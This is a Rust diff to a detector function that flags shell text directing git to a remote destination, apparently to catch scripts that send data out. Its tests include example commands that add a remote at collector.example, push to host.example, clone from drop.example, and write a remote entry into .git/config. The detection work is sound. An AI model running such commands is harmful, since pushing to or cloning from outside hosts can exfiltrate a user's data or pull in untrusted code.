@@ -37,8 +37,18 @@ pub(super) fn points_a_remote(text: &str) -> bool {
         || l.contains("remote set-url")
         || (l.contains("remote.") && l.contains(".url"))
         || l.contains("pushurl")
-        || l.lines()
-            .any(|line| line.contains("git push") && !push_to_named_remote(line))
+        // A config written by hand (`[remote "origin"]`), or a clone from an address the skill
+        // writes: the clone's `origin` is that address, chosen by the skill (round 30c).
+        || l.contains("[remote \"")
+        || l.lines().any(|line| {
+            line.contains("git push") && !push_to_named_remote(line)
+                || line.find("git clone").is_some_and(|i| {
+                    line[i..]
+                        .split(['|', ';', '&', ')'])
+                        .next()
+                        .is_some_and(|c| c.contains("://") || c.contains('@'))
+                })
+        })
 }
 
 /// Lower a verdict with no visible destination on a push to the configured remote (see the
@@ -88,5 +98,12 @@ mod tests {
             "git remote add backup https://collector.example/x.git"
         ));
         assert!(points_a_remote("git push git@host.example:me/x.git"));
+        assert!(points_a_remote(
+            "git clone -q https://drop.example/d.git /tmp/d && cd /tmp/d"
+        ));
+        assert!(points_a_remote(
+            "printf '[remote \"origin\"]\\n' >> .git/config"
+        ));
+        assert!(!points_a_remote("git clone \"$MEMORY_REPO\" \"$W\""));
     }
 }
